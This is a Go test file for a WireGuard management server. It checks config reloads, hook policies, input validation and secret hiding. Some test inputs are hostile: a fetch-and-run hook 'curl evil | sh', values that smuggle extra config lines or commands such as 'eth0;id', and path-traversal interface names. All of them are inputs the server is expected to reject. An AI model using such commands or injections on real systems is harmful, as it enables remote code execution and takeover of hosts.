package server

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/wgfleet/wgfleet/agent"
	"github.com/wgfleet/wgfleet/engine"
	"github.com/wgfleet/wgfleet/engine/enginetest"
)

const configPath = "/v1/wg/wg0/config"

// journalled notes the hooks that run, in order; one that is called "false" fails.
type journalled struct {
	mu    sync.Mutex
	ran   []string
	block chan struct{} // a hook called "wait" waits for it
}

func (h *journalled) RunHook(_ context.Context, _, command string) error {
	h.mu.Lock()
	h.ran = append(h.ran, command)
	h.mu.Unlock()
	switch command {
	case "false":
		return errors.New("exit status 1: " + recordedKey)
	case "wait":
		<-h.block
	}
	return nil
}

func (h *journalled) take() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	ran := h.ran
	h.ran = nil
	return ran
}

func hookedNode(t *testing.T, policy Policy) (*node, *journalled) {
	h := &journalled{block: make(chan struct{})}
	n := newNode(t, func(o *Options) {
		writeConf(t, o, "wg0", basicConf(t)+"PreUp = pre-up %i\nPostUp = post-up one\nPostUp = post-up two\nPreDown = pre-down\nPostDown = post-down\n")
		o.HookRunner, o.Hooks = h, policy
	})
	h.take()
	return n, h
}

// TestReloadRunsTheOldHooks: and restores all peers, those of run time too.
func TestReloadRunsTheOldHooks(t *testing.T) {
	n, h := hookedNode(t, HooksAllow)
	n.mustDo("POST", peersPath, peer(1))
	r := n.mustDo("PUT", configPath, map[string]any{"pre_down": "new", "address": "10.8.0.1/24, fd00::1/64", "mtu": 1380})
	require.Contains(t, string(r.body), `"reloaded":true`)
	require.Equal(t, []string{"pre-down", "post-down", "pre-up wg0", "post-up one", "post-up two"}, h.take())
	s := n.device("wg0")
	require.Len(t, s.Peers, 1)
	require.Len(t, s.Interface.Addresses, 2)
	require.Equal(t, 1380, s.Interface.MTU)
	require.Contains(t, n.conf("wg0"), "# the office\n")
	require.Contains(t, n.conf("wg0"), "PostUp = post-up one\nPostUp = post-up two\n")
	require.Contains(t, n.conf("wg0"), "PreDown = new\n")
	n.mustDo("PUT", configPath, map[string]any{"listen_port": 5555, "fwmark": 3})
	require.Empty(t, h.take(), "what the device can change while it runs needs no reload")
	require.EqualValues(t, 5555, n.device("wg0").Interface.ListenPort)
	n.mustDo("PUT", configPath, map[string]any{"mtu": "", "fwmark": 0, "dns": "", "table": nil})
	require.NotContains(t, n.conf("wg0"), "MTU")
	require.NotContains(t, n.conf("wg0"), "FwMark")
}

// TestFailedConfigChangesNothing: neither the interface nor its file, and no key is in the answer.
func TestFailedConfigChangesNothing(t *testing.T) {
	n, h := hookedNode(t, HooksAllow)
	n.mustDo("POST", peersPath, peer(1))
	before, conf := n.device("wg0"), n.conf("wg0")
	r := n.do("PUT", configPath, map[string]any{"post_up": "false", "address": "10.8.0.9/24"})
	require.Equal(t, 500, r.status)
	require.NotContains(t, string(r.body), recordedKey)
	require.Contains(t, h.take(), "false")
	require.Equal(t, before.Peers, n.device("wg0").Peers)
	require.Equal(t, before.Interface.Addresses, n.device("wg0").Interface.Addresses)
	require.Equal(t, conf, n.conf("wg0"))
	for _, body := range []map[string]any{
		{"private_key": "abc"},
		{"private_key": ""},
		{"private_key": agent.Hidden},
		{"address": "x"},
		{"mtu": 100},
		{"mtu": 70000},
		{"listen_port": 70000},
		{"listen_port": -1},
		{"address": "10.8.0.1/24\nPostUp = x"},
		{"table": "auto\n[Peer]"},
		{"post_up": "a\nb"},
		{"dns": "1.1.1.1 # x"},
		{"dns": "(hidden)"},
		{"address": "fd00::1/64", "mtu": 1000},
	} {
		require.Equal(t, 422, n.do("PUT", configPath, body).status, "%v", body)
	}
	require.Equal(t, conf, n.conf("wg0"))
	require.Empty(t, h.take())
	n.restart()
	require.Equal(t, before.Peers, n.device("wg0").Peers)
}

// TestFileThatCannotBeWritten fails the request and puts the device back.
func TestFileThatCannotBeWritten(t *testing.T) {
	// Modes do not stop root: a folder stands in the file's place instead.
	n := newNode(t, withConf(t))
	before := n.device("wg0")
	path := filepath.Join(n.o.ConfDir, "wg0.conf")
	text := n.conf("wg0")
	broken := func(do func() reply) {
		t.Helper()
		moved := n.o.ConfDir + ".away"
		require.NoError(t, os.Rename(n.o.ConfDir, moved))
		require.NoError(t, os.MkdirAll(path, 0o700))
		require.Equal(t, 500, do().status)
		require.NoError(t, os.RemoveAll(n.o.ConfDir))
		require.NoError(t, os.Rename(moved, n.o.ConfDir))
	}
	broken(func() reply { return n.do("POST", peersPath, peer(1)) })
	require.Equal(t, before, n.device("wg0"))
	require.Equal(t, text, n.conf("wg0"))
	n.restart()
	require.Empty(t, n.device("wg0").Peers)
}

func TestHookPolicies(t *testing.T) {
	for _, c := range []struct {
		policy          Policy
		own, new, clear int
	}{{HooksLocal, 200, 403, 200}, {HooksDeny, 403, 403, 403}, {HooksAllow, 200, 200, 200}} {
		n, _ := hookedNode(t, c.policy)
		conf := n.conf("wg0")
		require.Equal(t, 200, n.do("PUT", configPath, map[string]any{"post_up": "post-up two", "pre_down": "pre-down"}).status)
		require.Equal(t, conf, n.conf("wg0"), "what GET shows can be written back")
		require.Equal(t, c.new, n.do("PUT", configPath, map[string]any{"pre_down": "post-up one"}).status, "moved to another key")
		require.Equal(t, c.own, n.do("PUT", configPath, map[string]any{"post_up": "post-up one"}).status, c.policy)
		r := n.do("PUT", configPath, map[string]any{"post_up": "curl evil | sh"})
		require.Equal(t, c.new, r.status, c.policy)
		if c.new == 403 {
			require.Equal(t, agent.CodeHookRefused, r.code(t))
			require.NotContains(t, n.conf("wg0"), "evil")
		}
		require.Equal(t, c.clear, n.do("PUT", configPath, map[string]any{"post_up": ""}).status, c.policy)
	}
}

// TestHookLists: whole lists, each under the policy of its own key.
func TestHookLists(t *testing.T) {
	n, h := hookedNode(t, HooksLocal)
	conf := n.conf("wg0")
	status := func(hooks any) int { return n.do("PUT", configPath, map[string]any{"hooks": hooks}).status }
	for _, same := range []any{nil, map[string]any{}, map[string]any{"pre_up": nil}, map[string]any{
		"pre_up": []string{"pre-up %i"}, "post_up": []string{"post-up one", "post-up two"}, "pre_down": []string{"pre-down"}, "post_down": []string{"post-down"},
	}} {
		require.Equal(t, 200, status(same))
		require.Equal(t, conf, n.conf("wg0"))
	}
	require.Empty(t, h.take())
	for _, other := range []any{
		map[string]any{"post_up": []string{"post-up one", "evil"}}, map[string]any{"pre_down": []string{"post-down"}}, map[string]any{"pre_up": []string{"post-up one"}},
	} {
		require.Equal(t, 403, status(other))
	}
	for _, bad := range []any{"x", []string{"x"}, map[string]any{"post_up": "x"}, map[string]any{"post_up": []any{1}}, map[string]any{"post_up": []string{"a\nb"}}, map[string]any{"post_up": []string{"echo (hidden)"}}} {
		require.Equal(t, 422, status(bad), "%v", bad)
	}
	r := n.do("PUT", configPath, map[string]any{"post_up": "post-up one", "hooks": map[string]any{"post_up": []string{}}})
	require.Equal(t, 422, r.status)
	require.Equal(t, conf, n.conf("wg0"))

	require.Equal(t, 200, status(map[string]any{"post_up": []string{"post-up two"}, "post_down": []string{}}))
	require.Equal(t, []string{"pre-down", "post-down", "pre-up wg0", "post-up two"}, h.take())
	require.NotContains(t, n.conf("wg0"), "post-up one")
	require.NotContains(t, n.conf("wg0"), "PostDown")

	deny, _ := hookedNode(t, HooksDeny)
	require.Equal(t, 403, deny.do("PUT", configPath, map[string]any{"hooks": map[string]any{"post_up": []string{"post-up two"}}}).status)
	allow, h := hookedNode(t, HooksAllow)
	allow.mustDo("PUT", configPath, map[string]any{"hooks": map[string]any{"pre_up": []string{"a %i", "b # c"}, "post_down": []string{"z"}}})
	require.Equal(t, []string{"pre-down", "post-down", "a wg0", "b # c", "post-up one", "post-up two"}, h.take())
	require.Contains(t, allow.conf("wg0"), "PreUp = a %i\nPreUp = b # c\n")
	require.Contains(t, allow.conf("wg0"), "PostDown = z\n")
}

// TestForwardAndMasquerade are no hooks: the policy for those does not bar them.
func TestForwardAndMasquerade(t *testing.T) {
	n, h := hookedNode(t, HooksDeny)
	settings := func() (forward, masquerade any) {
		var got struct{ Config map[string]any }
		require.NoError(t, json.Unmarshal(n.mustDo("GET", configPath, nil).body, &got))
		return got.Config["forward"], got.Config["masquerade"]
	}
	forward, masquerade := settings()
	require.Nil(t, forward)
	require.Nil(t, masquerade)

	r := n.mustDo("PUT", configPath, map[string]any{"forward": "eth0,wg0", "masquerade": "any"})
	require.Contains(t, string(r.body), `"reloaded":true`)
	require.NotEmpty(t, h.take())
	require.Contains(t, n.conf("wg0"), "# wgfleet: forward eth0, wg0\n# wgfleet: masquerade any\n")
	require.Contains(t, n.conf("wg0"), "# the office\n")
	forward, masquerade = settings()
	require.Equal(t, "eth0, wg0", forward)
	require.Equal(t, "any", masquerade)

	conf := n.conf("wg0")
	for _, same := range []map[string]any{
		{"forward": nil, "mtu": nil}, {"forward": " eth0 , wg0 "}, {"masquerade": "any"},
	} {
		require.Contains(t, string(n.mustDo("PUT", configPath, same).body), `"reloaded":false`)
	}
	for _, bad := range []map[string]any{
		{"forward": "eth0;id"}, {"masquerade": "eth0\nPostUp = id"}, {"masquerade": true}, {"forward": "eth0 # x"}, {"forward": ","},
	} {
		r := n.do("PUT", configPath, bad)
		require.Equal(t, 422, r.status, "%v", bad)
	}
	require.Equal(t, conf, n.conf("wg0"))
	require.Empty(t, h.take())

	n.mustDo("PUT", configPath, map[string]any{"forward": "", "masquerade": ""})
	require.NotContains(t, n.conf("wg0"), "wgfleet:")
}

// TestDirectiveThatIsWrong: a typo in the file stops a change, which says where it is.
func TestDirectiveThatIsWrong(t *testing.T) {
	n := newNode(t, withConf(t))
	path := filepath.Join(n.o.ConfDir, "wg0.conf")
	text := strings.Replace(n.conf("wg0"), "[Interface]\n", "[Interface]\n# wgfleet: masqerade eth0\n", 1)
	require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
	r := n.do("PUT", configPath, map[string]any{"mtu": 1400})
	require.NotEqual(t, 200, r.status)
	require.Contains(t, string(r.body), "wg0.conf: line 3: # wgfleet: expected forward, masquerade, resolver, publish, allow, deny or limit, got \\\"masqerade\\\"")
	require.Equal(t, text, n.conf("wg0"))
}

func TestConfigOfANewInterface(t *testing.T) {
	n := newNode(t, nil)
	private := secretText(enginetest.PrivateKey(t))
	r := n.do("PUT", "/v1/wg/wg7/config", map[string]any{"listen_port": 1})
	require.Equal(t, 422, r.status, "%s", r.body)
	require.Contains(t, string(r.body), "private_key")
	require.Equal(t, 404, n.do("GET", "/v1/wg/wg7/dump", nil).status)
	r = n.mustDo("PUT", "/v1/wg/wg7/config", map[string]any{"private_key": private, "address": "10.9.0.1/24", "listen_port": 1234})
	require.Contains(t, string(r.body), `"reloaded":false`)
	info, err := os.Stat(filepath.Join(n.o.ConfDir, "wg7.conf"))
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), info.Mode().Perm())
	require.Equal(t, agent.CodeInterfaceDown, n.do("GET", "/v1/wg/wg7/dump", nil).code(t))
	require.Equal(t, agent.CodeInterfaceDown, n.do("POST", "/v1/wg/wg7/peers", peer(1)).code(t))
	var all agent.Interfaces
	n.mustDo("GET", "/v1/wg", nil).decode(t, &all)
	require.Len(t, all.Interfaces, 1)
	require.False(t, all.Interfaces[0].Up)
	require.EqualValues(t, 1234, all.Interfaces[0].ListenPort)
	require.Contains(t, string(n.mustDo("POST", "/v1/wg/wg7/enable", nil).body), `"was_down":true`)
	require.Contains(t, string(n.mustDo("POST", "/v1/wg/wg7/enable", nil).body), `"was_down":false`)
	require.Equal(t, private, secretText(n.device("wg7").Interface.PrivateKey))
	require.Contains(t, string(n.mustDo("POST", "/v1/wg/wg7/disable", nil).body), `"was_up":true`)
	require.Contains(t, string(n.mustDo("POST", "/v1/wg/wg7/disable", nil).body), `"was_up":false`)
	n.mustDo("DELETE", "/v1/wg/wg7", nil)
	require.NoFileExists(t, filepath.Join(n.o.ConfDir, "wg7.conf"))
	require.NoDirExists(t, filepath.Join(n.o.DataDir, StateFolder, "wg7"))
	require.Equal(t, 404, n.do("DELETE", "/v1/wg/wg7", nil).status)
}

// TestNamesDoNotReachFiles: names of requests are judged before anything looks at a file.
func TestNamesDoNotReachFiles(t *testing.T) {
	n := newNode(t, withConf(t))
	body := map[string]any{"private_key": secretText(enginetest.PrivateKey(t))}
	for _, name := range []string{"..", ".", "all", "default", "interfaces", "help", "-x", "a%20b", "a%0ab", "a%00b", "..%2f..%2fetc%2fx", "abcdefghijklmnop", "a%5cb", "%C3%A9"} {
		for _, w := range []struct{ method, tail string }{
			{"GET", "/dump"}, {"GET", "/config"}, {"PUT", "/config"}, {"POST", "/peers"}, {"POST", "/enable"}, {"POST", "/disable"}, {"DELETE", ""}, {"POST", "/apply"}, {"POST", "/syncconf"},
		} {
			r := n.do(w.method, "/v1/wg/"+name+w.tail, body)
			require.Contains(t, []int{404, 422}, r.status, "%s %s", w.method, name)
		}
	}
	for _, dir := range []string{n.o.ConfDir, filepath.Join(n.o.DataDir, StateFolder)} {
		entries, err := os.ReadDir(dir)
		require.NoError(t, err)
		require.Len(t, entries, 1, dir)
	}
}

// TestSlowHookHoldsUpNobody: neither health, nor the status, nor another interface.
func TestSlowHookHoldsUpNobody(t *testing.T) {
	n, h := hookedNode(t, HooksAllow)
	body := map[string]any{"private_key": secretText(enginetest.PrivateKey(t))}
	n.mustDo("PUT", "/v1/wg/wg1/config", body)
	n.mustDo("POST", "/v1/wg/wg1/enable", nil)
	done := make(chan reply)
	go func() { done <- n.do("PUT", configPath, map[string]any{"post_up": "wait"}) }()
	require.Eventually(t, func() bool {
		h.mu.Lock()
		defer h.mu.Unlock()
		return slices.Contains(h.ran, "wait")
	}, 10*time.Second, time.Millisecond)
	require.Equal(t, 200, n.do("GET", "/health", nil).status)
	require.Equal(t, 200, n.do("GET", "/v1/status", nil).status)
	require.Equal(t, 200, n.do("GET", "/v1/metrics", nil).status)
	require.Equal(t, 200, n.do("GET", "/v1/wg", nil).status)
	require.Equal(t, 200, n.do("POST", "/v1/wg/wg1/peers", peer(1)).status)
	require.Equal(t, 200, n.do("GET", "/v1/wg/wg1/dump", nil).status)
	require.Equal(t, 409, n.do("GET", dumpPath, nil).status)
	close(h.block)
	require.Equal(t, 200, (<-done).status)
}

// TestHandEditsSurvive: a person's changes of the file are neither lost nor overruled.
func TestHandEditsSurvive(t *testing.T) {
	n := newNode(t, withConf(t))
	n.mustDo("POST", peersPath, peer(1))
	edited := strings.Replace(n.conf("wg0"), "Address = 10.8.0.1/24", "Address = 10.8.0.7/24 # moved", 1) + "# Bob's phone\n"
	writeConf(t, &n.o, "wg0", edited)
	n.mustDo("POST", peersPath, peer(2))
	require.Contains(t, n.conf("wg0"), "# moved")
	require.Contains(t, n.conf("wg0"), "# Bob's phone")
	require.Contains(t, n.conf("wg0"), key(2))
	n.restart()
	require.Equal(t, "10.8.0.7/24", n.device("wg0").Interface.Addresses[0].String(), "the file speaks at the next start")
	require.Len(t, n.device("wg0").Peers, 2)
	n.mustDo("DELETE", peersPath+"/"+key(1), nil)
	require.NotContains(t, n.conf("wg0"), key(1))
	require.Contains(t, n.conf("wg0"), "# moved")
}

// TestJournalThatCannotBeWritten fails the request and puts the device back.
func TestJournalThatCannotBeWritten(t *testing.T) {
	n := newNode(t, withConf(t))
	n.mustDo("POST", peersPath, peer(1))
	before, conf := n.device("wg0"), n.conf("wg0")
	j := n.server.slotFor("wg0").journal
	require.NoError(t, j.log.Close())
	for _, body := range []any{peer(2), with(peer(1), "persistent_keepalive", 9)} {
		require.Equal(t, 500, n.do("POST", peersPath, body).status)
		require.Equal(t, before, n.device("wg0"))
		require.Equal(t, conf, n.conf("wg0"))
	}
	require.NoError(t, j.compact())
	n.mustDo("POST", peersPath, peer(2))
}

func TestUnchangedFileIsNotWritten(t *testing.T) {
	n := newNode(t, withConf(t))
	n.mustDo("POST", peersPath, peer(1))
	path := filepath.Join(n.o.ConfDir, "wg0.conf")
	before, err := os.Stat(path)
	require.NoError(t, err)
	n.mustDo("POST", peersPath, peer(1))
	n.mustDo("PUT", configPath, map[string]any{"address": "10.8.0.1/24"})
	there := n.device("wg0").Peers[0]
	require.NoError(t, n.fake().Write(engine.Changes{Peers: []engine.PeerChange{{Before: &there}}}))
	n.mustDo("POST", peersPath, peer(1))
	require.Len(t, n.device("wg0").Peers, 1)
	after, err := os.Stat(path)
	require.NoError(t, err)
	require.True(t, os.SameFile(before, after))
	require.Equal(t, before.ModTime(), after.ModTime())
}

func TestSecretsAreHidden(t *testing.T) {
	psk := secretText(enginetest.PresharedKey(t))
	for _, c := range []struct {
		policy  Policy
		forward bool
		shown   bool
	}{{ExposeSecure, false, true}, {ExposeSecure, true, false}, {ExposeNever, false, false}, {ExposeAlways, true, true}} {
		n := newNode(t, func(o *Options) { withConf(t)(o); o.ExposeSecrets = c.policy })
		n.mustDo("POST", peersPath, with(peer(1), "preshared_key", psk))
		var options []option
		if c.forward {
			options = append(options, header("X-Forwarded-For", "127.0.0.1"))
		}
		var d agent.Dump
		n.do("GET", dumpPath, nil, options...).decode(t, &d)
		require.Equal(t, c.shown, d.Peers[0].PresharedKey != nil, "%v", c)
		require.NotNil(t, d.Peers[0].PresharedKeyMAC)
		var conf agent.Config
		n.do("GET", configPath, nil, options...).decode(t, &conf)
		require.Equal(t, c.shown, conf.Config.PrivateKey != nil)
		require.Equal(t, !c.shown, strings.Contains(conf.Config.RawConfig, agent.Hidden))
		require.Equal(t, c.shown, strings.Contains(conf.Config.RawConfig, psk))
		require.NotNil(t, conf.Config.PublicKey)
	}
}
